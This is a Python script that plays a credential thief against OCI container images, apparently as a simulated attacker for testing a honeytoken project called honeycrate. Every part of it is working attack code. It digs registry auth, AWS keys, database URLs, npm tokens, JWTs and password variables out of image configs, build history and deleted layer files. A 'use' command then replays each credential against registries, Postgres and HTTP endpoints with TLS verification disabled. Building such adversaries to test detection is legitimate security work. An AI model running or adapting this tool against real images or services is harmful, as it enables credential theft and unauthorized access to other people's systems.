#!/usr/bin/env python3
"""A thief who has pulled an image: unpacks it, looks for credentials, and uses them.

usage: thief.py loot LAYOUT                           one JSON line for each credential that the OCI layout holds
       thief.py use KIND ADDRESS USER SECRET   tries it where it leads; prints what the server said

Knows nothing of honeycrate: it looks where thieves look, at the config, its history, and every file of every layer.
"""
import base64
import json
import os
import re
import subprocess
import sys
import tarfile
from urllib.parse import unquote

LAYER = re.compile(r"(layer|rootfs\.diff)")
URL = re.compile(r"""([a-z][a-z0-9+]*)://([^\s:/@"'`<>]*):([^\s@/"'`<>]+)@([^\s"'`<>,;)]+)""")
DOCKER_AUTH = re.compile(r'"([^"\s]+)"\s*:\s*\{[^{}]*"auth"\s*:\s*"([A-Za-z0-9+/=]+)"')
LOGIN = re.compile(r"(?:docker|podman|skopeo|buildah|helm registry|crane auth|oras) login\s+([^\n;&|]*)")
ECHOED = re.compile(r"""(?:echo|printf)\s+(?:-n\s+)?["']?([^\s"'|]+)["']?\s*\|\s*$""")
CURL = re.compile(r"""(?:curl|wget)\b[^\n;&|]*""")
NETRC = re.compile(r"machine\s+(\S+)\s+login\s+(\S+)\s+password\s+(\S+)")
NPM = re.compile(r"//([^\s:]+(?::\d+)?[^\s:]*)/:_authToken=(\S+)")
AWS_ID = re.compile(r"\b((?:AKIA|ASIA)[A-Z0-9]{16})\b")
AWS_SECRET = re.compile(r"(?<![A-Za-z0-9/+])([A-Za-z0-9/+]{40})(?![A-Za-z0-9/+=])")
PLAIN_URL = re.compile(r"""\bhttps?://[^\s"'`<>,;)@]+""")
ASSIGNED = re.compile(r"""(?:^|[\s"'])([A-Za-z][A-Za-z0-9_.-]*)["']?[ \t]*[:=][ \t]*["']?([^\s"',]+)""")
JWT = re.compile(r"\beyJ[A-Za-z0-9_-]+\.(eyJ[A-Za-z0-9_-]+)\.[A-Za-z0-9_-]+")
ROLES = {
    "user": ("USERNAME", "USER", "LOGIN"),
    "secret": ("PASSWORD", "PASSWD", "PASS", "TOKEN", "SECRET"),
    "address": ("REGISTRY", "REPOSITORY", "ENDPOINT", "ADDRESS", "ISSUER", "SERVER", "HOST", "URL"),
    "port": ("PORT",),
}


def loot(layout):
    """Every credential of the image for this machine's platform, with the surface it lay on."""
    found = list(everything(layout))
    addresses = [item["address"] for item in found if item["address"] and item["kind"] != "postgres"]
    for item in found:
        # A word without a place is tried where the image's other credentials lead.
        item["address"] = item["address"] or next(iter(addresses), "")
    return found


def everything(layout):
    manifest = first_manifest(layout, json.load(open(os.path.join(layout, "index.json"))))
    config = json.loads(blob(layout, manifest["config"]["digest"]))
    runtime = config.get("config") or {}
    yield from seen("env", "config", "\n".join(runtime.get("Env") or []))
    for name, value in (runtime.get("Labels") or {}).items():
        yield from seen("label", name, value)
    told = set(runtime.get("Env") or [])
    for number, step in enumerate(config.get("history") or []):
        # The step that set a variable repeats it: the same credential, on the same surface.
        words = step.get("created_by", "").removeprefix("/bin/sh -c #(nop) ").strip().removeprefix("ENV ")
        if words not in told:
            yield from seen("history", str(number), words + "\n" + step.get("comment", ""))

    layers = [files(layout, layer["digest"]) for layer in manifest["layers"] if LAYER.search(layer["mediaType"])]
    for number, layer in enumerate(layers):
        for path, text in layer.items():
            hidden = any(covers(later, path) for later in layers[number + 1:])
            yield from seen("buried" if hidden else "file", path, text)


def first_manifest(layout, index):
    """Follows indexes down to the manifest for linux/amd64, or to the only one."""
    choices = [m for m in index["manifests"] if m.get("platform", {}).get("architecture", "amd64") == "amd64"]
    document = json.loads(blob(layout, choices[0]["digest"]))
    return first_manifest(layout, document) if "manifests" in document else document


def blob(layout, digest):
    with open(os.path.join(layout, "blobs", *digest.split(":")), "rb") as file:
        return file.read()


def files(layout, digest):
    """The files of a layer: path to text. Whiteouts are files with a telling name."""
    found = {}
    with tarfile.open(os.path.join(layout, "blobs", *digest.split(":"))) as archive:
        for entry in archive:
            if entry.isfile():
                found[os.path.normpath(entry.name.lstrip("/"))] = archive.extractfile(entry).read().decode("utf-8", "replace")
    return found


def covers(layer, path):
    """Whether a later layer replaces or deletes a path."""
    if path in layer:
        return True
    parts = path.split("/")
    for depth in range(len(parts)):
        folder, name = "/".join(parts[:depth]), parts[depth]
        if os.path.join(folder, ".wh." + name) in layer or os.path.join(folder, ".wh..wh..opq") in layer:
            return True
    return False


def seen(surface, place, text):
    """One item for each secret of a text; the reading that says where it leads is the better one."""
    told = {}
    for kind, address, user, secret in credentials(text):
        if secret not in told or (address and not told[secret]["address"]):
            told[secret] = {"surface": surface, "place": place, "kind": kind, "address": address, "user": user, "secret": secret}
    return told.values()


def credentials(text):
    """Yields (kind, address, user, secret) for what a text says of where to go with which name and word."""
    for scheme, user, secret, rest in URL.findall(text):
        kind = "postgres" if scheme.startswith("postgres") else "web"
        yield kind, rest if kind == "postgres" else f"{scheme}://{rest}", unquote(user), unquote(secret)
    for host, packed in DOCKER_AUTH.findall(text):
        user, _, secret = base64.b64decode(packed + "===").decode("utf-8", "replace").partition(":")
        yield "registry", bare(host), user, secret
    for login in LOGIN.finditer(text):
        words = login.group(1).split()
        user, secret = option(words, "-u", "--username"), option(words, "-p", "--password")
        if secret is None and (echoed := ECHOED.search(text[:login.start()])):
            secret = echoed.group(1)
        hosts = [word for word in words if not word.startswith("-") and word not in (user, secret)]
        if user and secret and hosts and "$" not in user + secret:
            yield "registry", bare(hosts[-1]), user, secret
    for command in CURL.findall(text):
        words = command.split()
        pair, addresses = option(words, "-u", "--user"), PLAIN_URL.findall(command)
        if pair and ":" in pair and addresses:
            yield "web", addresses[0], *pair.split(":", 1)
    for host, user, secret in NETRC.findall(text):
        yield "web", host, user, secret
    for host, secret in NPM.findall(text):
        yield "bearer", host, "", secret
    identities, secrets, addresses = AWS_ID.findall(text), AWS_SECRET.findall(text), PLAIN_URL.findall(text)
    if identities and secrets:
        yield "s3", addresses[0] if addresses else "s3.amazonaws.com", identities[0], secrets[0]
    yield from assigned(text)
    for token in JWT.finditer(text):
        claims = json.loads(base64.urlsafe_b64decode(token.group(1) + "=="))
        yield "bearer", claims.get("iss", ""), "", token.group(0)


def assigned(text):
    """Puts NAME=VALUE lines with the same prefix together: X_HOST, X_USER, X_PASSWORD."""
    groups = {}
    for name, value in ASSIGNED.findall(text):
        upper = name.upper().replace("-", "_").replace(".", "_")
        for role, endings in ROLES.items():
            ending = next((ending for ending in endings if upper.endswith(ending)), None)
            if ending:
                groups.setdefault(upper[: -len(ending)].rstrip("_"), {}).setdefault(role, value)
                break
    for prefix, found in groups.items():
        if not looks_secret(found.get("secret", "")):
            continue
        address, user = found.get("address", ""), found.get("user", "")
        address += ":" + found["port"] if address and "port" in found else ""
        if "VAULT" in prefix:
            kind = "vault"
        elif re.search(r"REGISTRY|DOCKER", prefix):
            kind = "registry"
        elif re.search(r"PG|POSTGRES|DB|DATABASE", prefix):
            kind = "postgres"
        else:
            kind = "web" if user and not JWT.match(found["secret"]) else "bearer"
        yield kind, address, user, found["secret"]


def looks_secret(value):
    return len(value) >= 16 and "://" not in value and "$" not in value and re.search(r"[0-9]", value) and re.search(r"[A-Za-z]", value)


def option(words, short, long):
    for at, word in enumerate(words):
        if word in (short, long) and at + 1 < len(words):
            return words[at + 1].strip("\"'")
        if word.startswith(long + "="):
            return word.split("=", 1)[1].strip("\"'")
    return None


def bare(host):
    return re.sub(r"^https?://", "", host).strip("/\"'")


def use(kind, address, user, secret):
    """Takes a credential where it leads, with the client that belongs to it."""
    if kind == "registry":
        host = bare(address)
        reference = host if "/" in host else host + "/library/app"
        return call("skopeo", "inspect", "--tls-verify=false", "--creds", f"{user}:{secret}", f"docker://{reference}")
    if kind == "postgres":
        host = address if "/" in address else address + "/postgres"
        return call("psql", "-w", "-c", "select 1", f"postgresql://{user}:{secret}@{host}")
    who = {"web": ["-u", f"{user}:{secret}"], "bearer": ["-H", f"Authorization: Bearer {secret}"],
           "vault": ["-H", f"X-Vault-Token: {secret}"],
           "s3": ["--aws-sigv4", "aws:amz:us-east-1:s3", "-u", f"{user}:{secret}"]}[kind]
    addresses = [address] if "://" in address else [f"https://{address}", f"http://{address}"]
    for place in addresses:
        code = call("curl", "-sS", "-k", "-i", "--max-time", "10", *who, place)
        if code == 0:
            return code
    return code


def call(*command):
    return subprocess.run(command, stdin=subprocess.DEVNULL, stderr=subprocess.STDOUT, timeout=60).returncode


if __name__ == "__main__":
    if sys.argv[1] == "loot":
        for found in loot(sys.argv[2]):
            print(json.dumps(found))
    else:
        sys.exit(use(*sys.argv[2:6]))
